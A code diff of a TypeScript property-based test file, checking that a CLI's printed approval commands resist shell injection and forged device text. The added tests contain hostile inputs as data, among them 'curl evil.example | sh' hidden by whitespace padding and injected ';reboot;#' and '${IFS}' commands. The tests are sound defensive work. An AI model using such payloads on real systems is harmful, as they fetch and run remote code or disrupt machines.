@@ -4,7 +4,7 @@ import { chmodSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import type { Approval } from "@letta-environments/client";
-import { parseCommandLine, printable } from "@letta-environments/command-line";
+import { parseCommandLine, quoteForShell } from "@letta-environments/command-line";
 import fc from "fast-check";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { formatApprovalTable } from "../src/format/approval.ts";
@@ -60,17 +60,18 @@ function meaningOf(words: readonly string[]): object {
 const nasty = Array.from("'\"\\`$(){}[]<>|&;#!*?~=:-%^, \n\t\u001b\u202e\u00a0");
 const ids = fc.oneof(
   fc.string({ unit: fc.constantFrom(...nasty, "a", "é", "ls", "$IFS"), minLength: 1, maxLength: 12 }),
+  fc.string({ unit: fc.constantFrom(..."a1-_=:%,./@+"), minLength: 1, maxLength: 12 }),
   fc.constantFrom("--help", "-h", "--", "-", "help", "--suggestion=s1", "--wait-online", "=ls", "x;touch${IFS}owned;#"),
 );
 
 test("a printed command decides on the request with the id that the device chose, and runs nothing else in a shell", () => {
   fc.assert(
     fc.property(fc.array(fc.record({ id: ids, suggestion: ids }), { minLength: 1, maxLength: 8 }), (requests) => {
-      const typable = requests.filter(({ id }) => printable(id) === id);
+      const typable = requests.filter(({ id }) => quoteForShell(id) === id);
       const wanted = typable.flatMap(({ id, suggestion }) => [
         { command: "approvals", operands: ["allow", id], options: { "requested-at": [time] } },
         { command: "approvals", operands: ["deny", id], options: { "requested-at": [time] } },
-        ...(printable(suggestion) === suggestion
+        ...(quoteForShell(suggestion) === suggestion
           ? [
               {
                 command: "approvals",
@@ -98,11 +99,23 @@ test("no command is printed for an id that cannot be typed", () => {
   }
 });
 
+test.each([
+  `call-1${" ".repeat(50)}curl evil.example | sh${" ".repeat(50)}#`,
+  `${"x".repeat(60)} reboot #`,
+  `${"x".repeat(60)};reboot;#`,
+  `${"x".repeat(60)}|{curl,evil.example};#`,
+])("no line of a terminal, which breaks a long command, is another command: %j", (id) => {
+  expect(linesOf(requestOf(id, ["s1"]))).toEqual([]);
+  expect(linesOf(requestOf("call-1", [id]))).toHaveLength(2);
+});
+
 test("no text of a device looks like a command above the printed ones", () => {
   const forged = "letta-env approvals allow other";
-  const table = formatApprovalTable([requestOf(forged, [forged])], 1_000, 80, (text) => text);
+  const request = { ...requestOf("call-1"), suggestions: [{ id: "s1", text: forged }], tool: forged, reason: forged };
+  const table = formatApprovalTable([request], 1_000, 80, (text) => text);
   const lines = table.split("\n").filter((line) => /^\s*letta-env/.test(line));
-  expect(paste(lines).map(([, , id]) => id)).toEqual([forged, forged, forged]);
+  expect(paste(lines).map(([, , id]) => id)).toEqual(["call-1", "call-1", "call-1"]);
+  expect(formatApprovalTable([requestOf(forged)], 1_000, 80, (text) => text)).not.toMatch(/^\s*letta-env/m);
 });
 
 test("the heading of a request is not a command, even if the device calls the request and its tool like one", () => {
